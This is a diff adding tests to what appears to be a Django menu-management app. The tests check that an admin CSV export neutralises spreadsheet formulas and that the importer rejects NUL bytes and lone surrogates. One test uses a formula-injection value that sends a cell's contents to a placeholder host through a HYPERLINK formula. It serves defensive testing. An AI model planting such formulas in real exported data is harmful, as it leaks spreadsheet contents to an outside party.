@@ -427,3 +427,32 @@ def test_inline_rows_cannot_reach_another_stores_groups_links_or_options(manager
     assert (theirs.store, theirs.name) == (other_store, "곱빼기 여부")
     assert (their_option.group_id, their_option.name, their_option.price_delta) == (theirs.pk, "곱빼기", 2000)
     assert _menu_updates(other_store) == 0
+
+
+def test_the_admin_csv_export_is_inert_and_imports_back(manager_client, store, menu):
+    hostile = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
+    MenuItem.objects.filter(store=store, name="김치찌개").update(name=hostile, description="-반값-")
+    exported = manager_client.get(reverse("admin:menus_menu_export"), {"format": "csv"}).content.decode("utf-8-sig")
+    assert '\n식사,"\'=HYPERLINK(""http://x.example/?leak=""&A1,""click"")",9000,\'-반값-,' in exported
+
+    upload = SimpleUploadedFile("menu.csv", exported.encode("utf-8-sig"), content_type="text/csv")
+    response = manager_client.post(reverse("admin:menus_menu_import"), {"file": upload}, follow=True)
+    assert "0 new items, 0 updated" in response.content.decode()
+    assert MenuItem.objects.get(store=store, name=hostile).description == "-반값-"
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("menu.csv", "category,name,price,description,image_url,is_available\n식사,라\x00면,3000,,,true\n".encode()),
+        ("menu.json", b'{"categories": [{"name": "\\u0000", "items": [{"name": "a", "price": 1}]}]}'),
+        ("menu.json", b'{"categories": [{"name": "x", "items": [{"name": "\\ud800", "price": 1}]}]}'),
+    ],
+)
+def test_a_nul_or_lone_surrogate_in_an_admin_import_is_a_form_error(manager_client, store, menu, name, content):
+    before = list(MenuItem.objects.values_list("name", "price"))
+    upload = SimpleUploadedFile(name, content)
+    response = manager_client.post(reverse("admin:menus_menu_import"), {"file": upload})
+    assert response.status_code == 200
+    assert "not allowed (NUL or a lone surrogate)" in response.content.decode()
+    assert list(MenuItem.objects.values_list("name", "price")) == before
